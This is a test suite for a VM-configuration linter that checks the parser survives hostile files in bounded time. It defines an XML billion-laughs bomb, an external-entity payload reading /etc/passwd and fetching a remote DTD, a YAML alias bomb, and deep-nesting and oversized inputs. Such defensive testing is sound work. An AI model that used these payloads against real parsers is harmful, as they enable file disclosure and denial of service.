import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { closeSync, existsSync, ftruncateSync, mkdirSync, mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { defaultConfig } from '../server/src/engine/config';
import { decodeBytes } from '../server/src/engine/decode';
import { lintText, type FileResult } from '../server/src/engine/engine';
import { allFormats, detectFormat } from '../server/src/catalog';
import type { Format } from '../server/src/engine/types';
import { PER_INPUT_MS, assertInside, escapedException, samplesByFormat, type Sample } from './helpers/robust';
import { cpuNow } from './helpers/cpu-time';
import { performance } from 'node:perf_hooks';

// Hostile files: each gets a bounded-time result and, where vharden cannot check it, a diagnostic
// that says why. Inputs that only some formats care about (XML entities, YAML aliases) go through
// every format anyway: a parser must not choke on another format's tricks.

const ROOT = join(__dirname, '..');
const CLI = join(ROOT, 'dist', 'cli.js');
const formats = allFormats();
const MB = 1024 * 1024;

function lintBounded(format: Format<any>, path: string, text: string, boundMs = PER_INPUT_MS, config = defaultConfig()): FileResult {
  const t0 = cpuNow();
  const r = lintText({ path, text, config, formatId: format.id });
  const ms = cpuNow() - t0;
  assert.ok(ms < boundMs, `${format.id} ${path}: ${Math.round(ms)} ms (bound ${boundMs} ms)`);
  assert.equal(escapedException(r), undefined, `${format.id} ${path}: no exception escaped`);
  assertInside(text, r, `${format.id} ${path}`);
  return r;
}

/** A line of about 100 characters that is a comment in the format. */
function commentFiller(format: Format<any>): string {
  const c = format.comment;
  return 'line' in c ? `${c.line} ${'x'.repeat(97)}\n` : `${c.open} ${'x'.repeat(90)} ${c.close}\n`;
}

/** The first rule fixture (a `bad/` file when there is one) that each format recognises. */
function fixtureOf(format: Format<any>): Sample | undefined {
  const samples = (samplesByFormat(formats).get(format.id) ?? []).filter((s) => !s.path.startsWith('/'));
  return samples.find((s) => s.path.includes('/bad/')) ?? samples[0];
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE domain [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<domain type='kvm'>
  <name>&lol9;</name>
  <devices>
    <graphics type='vnc' port='-1' autoport='yes' listen='&lol9;'/>
  </devices>
</domain>
`;

const EXTERNAL_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE domain [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY % remote SYSTEM "http://192.0.2.1/x.dtd"> %remote; ]>
<domain type='kvm'>
  <name>&xxe;</name>
  <devices><graphics type='vnc' listen='&xxe;'/></devices>
</domain>
`;

const YAML_ALIAS_BOMB = `---
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
- hosts: localhost
  tasks:
    - name: bomb
      community.vmware.vmware_guest: *i
`;

const DEPTH = 10_000;
const DEEP: Record<string, string> = {
  'xml elements': `<domain>${'<a>'.repeat(DEPTH)}x${'</a>'.repeat(DEPTH)}</domain>\n`,
  'xml unclosed': `<domain>${'<a b="1">'.repeat(DEPTH)}\n`,
  'yaml flow sequences': `x: ${'['.repeat(DEPTH)}1${']'.repeat(DEPTH)}\n`,
  'yaml flow maps': `x: ${'{a: '.repeat(DEPTH)}1${'}'.repeat(DEPTH)}\n`,
  'yaml block sequences': `${'- '.repeat(DEPTH)}x\n`,
  'yaml block maps': Array.from({ length: 2000 }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n') + ' x\n',
  'brackets and braces': `${'{['.repeat(DEPTH)}\n`,
};

const LINE = 'a'.repeat(MB);
const LONG_LINES: Record<string, string> = {
  'bare 1 MB line': `${LINE}\n`,
  'key = 1 MB quoted value': `config.version = "8"\nvirtualHW.version = "19"\ndisplayName = "${LINE}"\nRemoteDisplay.vnc.enabled = "TRUE"\n`,
  '1 MB XML attribute': `<domain type='kvm'><name>x</name><devices><graphics type='vnc' listen='0.0.0.0' passwd='${LINE}'/></devices></domain>\n`,
  '1 MB YAML scalar': `- hosts: all\n  tasks:\n    - name: "${LINE}"\n      community.vmware.vmware_guest: { name: x }\n`,
  '1 MB unterminated quote': `key = "${LINE}\n<a b='${LINE}\n`,
  '1 MB comment': `# ${LINE}\n<!-- ${LINE} -->\n`,
};

/** Files recognised by content only (no telling name), over the 1 MB the scan reads whole just to sniff. */
function contentOnlyVmx(bytes: number): Buffer {
  const head = 'config.version = "8"\nvirtualHW.version = "19"\ndisplayName = "big"\nRemoteDisplay.vnc.enabled = "TRUE"\n';
  const filler = '# padding padding padding padding padding padding padding padding padding padding\n';
  return Buffer.from(head + filler.repeat(Math.ceil((bytes - head.length) / filler.length)));
}

describe('hostile input', () => {
  const dir = mkdtempSync(join(tmpdir(), 'vh-hostile-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  for (const [name, text] of [['XML entity bomb', BILLION_LAUGHS], ['XML external entities', EXTERNAL_ENTITY], ['YAML alias bomb', YAML_ALIAS_BOMB]] as const) {
    it(`${name}: every format, and detection by content and by name, answer in bounded time without expanding`, () => {
      const paths = ['bomb.xml', 'domain.xml', 'site.yml', 'playbook.yaml', 'bomb.vmx', 'bomb.conf'];
      for (const format of formats) {
        const r = lintBounded(format, paths[0]!, text);
        for (const f of r.findings) {
          assert.ok(!/(lol){20}/.test(f.message), `${format.id}: a message shows expanded entities or aliases: ${f.message.slice(0, 120)}`);
          assert.ok(!/root:.*:0:0:/.test(f.message), `${format.id}: external entity content appears in a message`);
        }
      }
      for (const path of paths) {
        const format = detectFormat(path, text);
        if (format) lintBounded(format, path, text);
      }
    });
  }

  it('10,000-deep nesting: every format, bounded time, no stack overflow', () => {
    for (const format of formats) for (const [shape, text] of Object.entries(DEEP)) lintBounded(format, `deep-${shape.replace(/ /g, '-')}`, text, PER_INPUT_MS * 2);
  });

  it('1 MB lines: every format, bounded time; ranges stay inside the document', () => {
    for (const format of formats) for (const [shape, text] of Object.entries(LONG_LINES)) lintBounded(format, `long-${shape.replace(/ /g, '-')}`, text, PER_INPUT_MS * 2);
  });

  it('binary content in a file with a recognised name: skipped with VH-FILE-SKIPPED, not parsed', () => {
    const bytes = Buffer.alloc(64 * 1024);
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 2654435761) >>> 24;
    for (const format of formats) {
      const sample = fixtureOf(format);
      if (!sample) continue;
      const r = lintBounded(format, sample.path, decodeBytes(bytes).text);
      const skipped = r.findings.find((f) => f.ruleId === 'VH-FILE-SKIPPED');
      assert.ok(skipped, `${format.id}: a binary file is reported as skipped`);
      assert.match(skipped.message, /binary/);
    }
  });

  it('invalid UTF-8: a VH-PARSE-ERROR says so at the first bad byte, and the rest is still checked', () => {
    for (const format of formats) {
      const sample = fixtureOf(format);
      if (!sample) continue;
      const clean = lintBounded(format, sample.path, decodeBytes(sample.bytes).text);
      const bad = Buffer.concat([sample.bytes, Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x0a])]);
      const decoded = decodeBytes(bad);
      const r = lintText({ path: sample.path, text: decoded.text, config: defaultConfig(), formatId: format.id, decodeProblems: decoded.problems });
      assertInside(decoded.text, r, `${format.id} invalid UTF-8`);
      const enc = r.findings.find((f) => f.ruleId === 'VH-PARSE-ERROR' && f.locator === 'encoding');
      assert.ok(enc, `${format.id}: invalid UTF-8 is reported`);
      assert.equal(enc.start, decoded.text.indexOf('\uFFFD'));
      const rules = (x: FileResult) => x.findings.filter((f) => !f.ruleId.startsWith('VH-')).map((f) => `${f.ruleId}@${f.line}`);
      assert.deepEqual(rules(r), rules(clean), `${format.id}: findings before the bad bytes are unchanged`);
    }
  });

  it('UTF-16 with a BOM (LE and BE) gives the same findings at the same positions as UTF-8', () => {
    for (const format of formats) {
      const sample = fixtureOf(format);
      if (!sample) continue;
      const text = decodeBytes(sample.bytes).text;
      const expected = lintBounded(format, sample.path, text).findings.map((f) => `${f.ruleId}@${f.line}:${f.character}-${f.endLine}:${f.endCharacter}`);
      const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
      const be = Buffer.from(le);
      be.swap16();
      for (const [name, bytes] of [['UTF-16LE', le], ['UTF-16BE', be]] as const) {
        const decoded = decodeBytes(bytes);
        assert.equal(decoded.text, text, `${format.id} ${name} decodes`);
        const got: string[] = lintBounded(format, sample.path, decoded.text).findings.map((f) => `${f.ruleId}@${f.line}:${f.character}-${f.endLine}:${f.endCharacter}`);
        assert.deepEqual(got, expected, `${format.id} ${name}`);
      }
    }
  });

  it('100 MB through the engine with the size limit raised: bounded time, same findings as the small file', () => {
    for (const format of formats) {
      const sample = fixtureOf(format);
      if (!sample) continue;
      const text = decodeBytes(sample.bytes).text;
      const filler = commentFiller(format);
      const big = text + (text.endsWith('\n') ? '' : '\n') + filler.repeat(Math.ceil((100 * MB) / filler.length));
      const config = { ...defaultConfig(), maxFileSize: 200 * MB };
      const t0 = cpuNow();
      const r = lintBounded(format, sample.path, big, 60_000, config);
      console.log(`${format.id}: ${Math.round(big.length / MB)} MB linted in ${Math.round(cpuNow() - t0)} ms`);
      const rules = (x: FileResult) => x.findings.filter((f) => !f.ruleId.startsWith('VH-')).map((f) => `${f.ruleId}@${f.line}`);
      assert.deepEqual(rules(r), rules(lintText({ path: sample.path, text, config, formatId: format.id })), `${format.id}: same findings`);
    }
  });

  it('CLI: a 100 MB file is skipped by size with VH-FILE-SKIPPED; binary and unknown files are handled', { skip: existsSync(CLI) ? false : 'dist/cli.js missing: run npm run build' }, () => {
    const root = join(dir, 'cli');
    mkdirSync(root, { recursive: true });
    const expectSkipped: string[] = [];
    for (const format of formats) {
      const sample = fixtureOf(format);
      if (!sample) continue;
      const path = join(root, format.id, sample.path.split('/').slice(2).join('/'));
      mkdirSync(join(path, '..'), { recursive: true });
      // The real file, then comments past the 64 KB a scan reads to recognise large files by content,
      // then a sparse tail: 100 MB by size, little disk used.
      const text = decodeBytes(sample.bytes).text;
      writeFileSync(path, text + (text.endsWith('\n') ? '' : '\n') + commentFiller(format).repeat(Math.ceil((80 * 1024) / commentFiller(format).length)));
      const fd = openSync(path, 'r+');
      ftruncateSync(fd, 100 * MB);
      closeSync(fd);
      expectSkipped.push(path);
    }
    writeFileSync(join(root, 'random.bin'), Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) & 0xff)));
    // a child process: its CPU time is not this process's, so this bound is wall-clock (and generous)
    const t0 = performance.now();
    const r = spawnSync(process.execPath, [CLI, 'scan', root, '-f', 'json', '--fail-on', 'never'], { encoding: 'utf8', maxBuffer: 64 * MB });
    assert.ok(performance.now() - t0 < 10_000, 'bounded time');
    assert.equal(r.status, 0, r.stderr);
    const report = JSON.parse(r.stdout) as { findings: { path: string; ruleId: string; message: string }[] };
    for (const path of expectSkipped) {
      const f = report.findings.find((x) => x.path === path && x.ruleId === 'VH-FILE-SKIPPED');
      assert.ok(f, `${path} is reported as skipped`);
      assert.match(f.message, /104857600 bytes, over the 5242880-byte limit/);
    }
    assert.ok(!report.findings.some((x) => x.path.endsWith('random.bin')), 'an unrecognised binary file is not reported');
  });

  it('CLI: files recognised only by content are checked up to the size limit and reported as skipped above it', { skip: existsSync(CLI) ? false : 'dist/cli.js missing: run npm run build' }, () => {
    const root = join(dir, 'content-only');
    mkdirSync(root, { recursive: true });
    writeFileSync(join(root, 'guest-2mb.cfg'), contentOnlyVmx(2 * MB));
    writeFileSync(join(root, 'guest-6mb.cfg'), contentOnlyVmx(6 * MB));
    const r = spawnSync(process.execPath, [CLI, 'scan', root, '-f', 'json', '--fail-on', 'never'], { encoding: 'utf8', maxBuffer: 64 * MB });
    assert.equal(r.status, 0, r.stderr);
    const report = JSON.parse(r.stdout) as { findings: { path: string; ruleId: string; message: string }[] };
    const of = (name: string) => report.findings.filter((f) => f.path.endsWith(name)).map((f) => f.ruleId);
    assert.ok(of('guest-2mb.cfg').includes('VMX-CONSOLE-VNC'), `a 2 MB file recognised by content is checked: ${of('guest-2mb.cfg')}`);
    assert.deepEqual(of('guest-6mb.cfg'), ['VH-FILE-SKIPPED'], 'a 6 MB file recognised by content is reported as skipped, not passed over');
  });
});
